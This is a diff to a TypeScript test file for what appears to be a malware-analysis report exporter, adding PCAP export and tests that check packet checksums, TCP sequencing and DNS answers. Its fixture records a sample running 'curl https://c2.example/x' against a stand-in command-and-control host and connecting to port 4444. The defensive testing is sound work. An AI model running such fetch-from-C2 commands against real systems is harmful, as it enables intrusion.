@@ -17,10 +17,11 @@ const report = (level = 'MALICIOUS'): ReportDocument => ({
   signals: [...signals], techniques: techniquesOf(signals),
   processes: [{ run: 0, at: 0, processId: 10, parentProcessId: 1, image: '/bin/sh', commandLine: 'sh a.sh' }, { run: 0, at: 5, processId: 11, parentProcessId: 10, image: '/usr/bin/curl', commandLine: 'curl https://c2.example/x' }],
   network: [
-    { run: 0, at: 9, kind: 'DNS', name: 'c2.example', address: null, port: null, protocol: 'dns', uri: null, first: null },
-    { run: 0, at: 12, kind: 'NETWORK', name: 'c2.example', address: '198.18.0.1', port: 443, protocol: 'tcp', uri: 'https://c2.example/x', first: 'GET /x' },
-    { run: 0, at: 14, kind: 'NETWORK', name: null, address: '203.0.113.9', port: 4444, protocol: 'tcp', uri: null, first: 'hello' },
+    { run: 0, at: 9, kind: 'DNS', name: 'c2.example', address: null, answer: '198.18.0.1', port: null, protocol: 'dns', uri: null, first: null },
+    { run: 0, at: 12, kind: 'NETWORK', name: 'c2.example', address: '198.18.0.1', answer: null, port: 443, protocol: 'tcp', uri: 'https://c2.example/x', first: 'GET /x' },
+    { run: 0, at: 14, kind: 'NETWORK', name: null, address: '203.0.113.9', answer: null, port: 4444, protocol: 'tcp', uri: null, first: 'hello' },
   ],
+  capture: [],
   files: [{ run: 0, at: 20, operation: 'write', path: '/tmp/x' }],
   indicators: [{ kind: 'URL', value: 'https://c2.example/x', where: '' }], static: { entropy: 4.2 }, cut: [],
 });
@@ -110,6 +111,61 @@ describe('a report for paper', () => {
   });
 });
 
-test('every format gives a file with a name, a type and a text', () => {
-  for (const format of reportFormats) expect(exported(report(), format)).toMatchObject({ fileName: expect.stringMatching(/^assay-a{16}\./) as string, mediaType: expect.stringContaining('/') as string, content: expect.stringContaining('a'.repeat(16)) as string });
+test('every format gives a file with a name, a type and a content', () => {
+  for (const format of reportFormats) expect(exported(report(), format)).toMatchObject({ fileName: expect.stringMatching(/^assay-a{16}\./) as string, mediaType: expect.stringContaining('/') as string, content: expect.stringContaining(format === 'PCAP' ? '' : 'a'.repeat(16)) as string });
+});
+
+/** A capture file read back with a reader of its own: packets whose checksums are right, in the order of their time. */
+function packetsOf(file: Buffer) {
+  expect(file.readUInt32LE(0)).toBe(0xa1b2c3d4);
+  expect(file.readUInt32LE(20)).toBe(101);
+  const folded = (bytes: Buffer) => {
+    let sum = 0;
+    for (let at = 0; at < bytes.length; at += 2) sum += bytes[at]! * 256 + (bytes[at + 1] ?? 0);
+    while (sum > 0xffff) sum = (sum % 0x10000) + Math.floor(sum / 0x10000);
+    return sum;
+  };
+  const packets = [];
+  for (let at = 24; at < file.length;) {
+    const time = file.readUInt32LE(at) * 1000 + file.readUInt32LE(at + 4) / 1000;
+    const length = file.readUInt32LE(at + 8);
+    const bytes = file.subarray(at + 16, at + 16 + length);
+    at += 16 + length;
+    expect(bytes.readUInt16BE(2)).toBe(length);
+    expect(folded(bytes.subarray(0, 20)), 'checksum of the header').toBe(0xffff);
+    const transport = bytes.subarray(20);
+    expect(folded(Buffer.concat([bytes.subarray(12, 20), Buffer.from([0, bytes[9]!, transport.length >> 8, transport.length & 255]), transport])), 'checksum of the rest').toBe(0xffff);
+    packets.push({ time, protocol: bytes[9], from: `${[...bytes.subarray(12, 16)].join('.')}:${transport.readUInt16BE(0)}`, to: `${[...bytes.subarray(16, 20)].join('.')}:${transport.readUInt16BE(2)}`,
+      flag: bytes[9] === 6 ? transport[13]! : 0, sequence: bytes[9] === 6 ? transport.readUInt32BE(4) : 0, acknowledged: bytes[9] === 6 ? transport.readUInt32BE(8) : 0, data: transport.subarray(bytes[9] === 6 ? 20 : 8) });
+  }
+  return packets;
+}
+
+describe('a report as a capture file', () => {
+  const made = (capture: ReportDocument['capture']) => {
+    const { content, encoding, fileName } = exported({ ...report(), capture }, 'PCAP');
+    expect({ encoding, fileName }).toEqual({ encoding: 'BASE64', fileName: `assay-${'a'.repeat(16)}.pcap` });
+    return packetsOf(Buffer.from(content, 'base64'));
+  };
+  test('holds every conversation as it was said, whatever was said: both sides come out of their packets again', () => {
+    const turn = fc.record({ direction: fc.constantFrom('sent' as const, 'received' as const), data: fc.uint8Array({ minLength: 1, maxLength: 6_000 }) });
+    fc.assert(fc.property(fc.array(turn, { minLength: 1, maxLength: 6 }), (turns) => {
+      const packets = made(turns.map(({ direction, data }, n) => ({ run: 0, at: 10 + n, flow: '0', protocol: 'tcp', address: '203.0.113.9', port: 4444, source: 50_001, direction, data: Buffer.from(data) }))).filter((packet) => packet.protocol === 6);
+      for (const [direction, from] of [['sent', '10.0.2.15:50001'], ['received', '203.0.113.9:4444']] as const) {
+        const said = packets.filter((packet) => packet.from === from);
+        expect(Buffer.concat(said.map((packet) => packet.data))).toEqual(Buffer.concat(turns.filter((one) => one.direction === direction).map((one) => Buffer.from(one.data))));
+        // Each packet goes on where the one before ended; a first and a last packet count one.
+        for (const [n, packet] of said.entries()) if (n > 0) expect(packet.sequence).toBe(said[n - 1]!.sequence + said[n - 1]!.data.length + ((said[n - 1]!.flag & 3) === 0 ? 0 : 1));
+      }
+      expect(packets.slice(0, 3).map((packet) => packet.flag)).toEqual([2, 18, 16]);
+      expect(packets.map((packet) => packet.time)).toEqual(packets.map((packet) => packet.time).sort((a, b) => a - b));
+    }), { numRuns: 50 });
+  });
+  test('holds names that were looked up with the answer that the guest got, and datagrams', () => {
+    const packets = made([{ run: 0, at: 30, flow: '1', protocol: 'udp', address: '203.0.113.7', port: 5353, source: 6_000, direction: 'sent', data: Buffer.from('knock') }]);
+    expect(packets.map(({ from, to }) => `${from} ${to}`)).toEqual(['10.0.2.15:40000 10.0.2.3:53', '10.0.2.3:53 10.0.2.15:40000', '10.0.2.15:6000 203.0.113.7:5353']);
+    expect(packets[1]!.data.includes(Buffer.from('\x02c2\x07example\0', 'latin1'))).toBe(true);
+    expect([...packets[1]!.data.subarray(-4)]).toEqual([198, 18, 0, 1]);
+    expect(packets[2]!.data.toString()).toBe('knock');
+  });
 });
